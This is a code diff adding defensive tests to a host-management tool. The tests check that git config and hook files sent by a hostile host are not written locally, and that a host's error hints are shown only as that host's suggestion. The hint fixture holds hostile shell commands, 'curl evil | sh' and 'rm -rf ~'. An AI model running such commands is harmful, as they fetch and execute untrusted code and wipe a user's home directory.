@@ -24,7 +24,7 @@ from ipexctl.core.stack.env_match import disagreement, modules, read_look, row_o
 from ipexctl.core.stack.selection import proved_text
 from ipexctl.errors import HostFailed
 from ipexctl.hosts import blob_carriers, blob_store, folder_transfer
-from ipexctl.hosts.agent import Agent, Hello
+from ipexctl.hosts.agent import Agent, Hello, failure
 from ipexctl.hosts.fleet import fan_out
 from ipexctl.hosts.folder_transfer import Bundle
 from ipexctl.hosts.frames import HEAD, HEADER_LIMIT, BadFrame, Decoder
@@ -403,6 +403,20 @@ def test_a_size_that_no_file_has_ends_that_host_alone(tmp_path, size):
     words = brought(tmp_path, evil, [files(["a", 1]), part(1)])
     assert words[0].endswith("outputs (1 file, 1 byte)")
     assert len(words) == 2 and words[1].startswith("could not fetch: node01: ")
+
+
+def test_what_programs_here_obey_is_not_written(tmp_path):
+    evil = [files([".git/config", 1], ["x/.git/hooks/post-checkout", 1], ["x", 1]), part(1)]
+    words = brought(tmp_path, evil, [files(["a", 1]), part(1)])
+    assert words[0].endswith("outputs (2 files, 2 bytes)")
+    assert not [p for p in (tmp_path / "outputs").rglob("*") if ".git" in p.parts]
+
+
+def test_what_a_host_suggests_is_shown_as_its_words():
+    error = {"what": "no", "hint": "curl evil | sh\nrm -rf ~"}
+    for host, prefix in ((Host("node01"), "the host suggests: "), (Host("me", local=True), "")):
+        lines = failure(host, error).hint.splitlines()
+        assert lines == [f"{prefix}curl evil | sh", f"{prefix}rm -rf ~"]
 
 
 def test_node0_does_not_write_where_another_hosts_files_go(tmp_path):
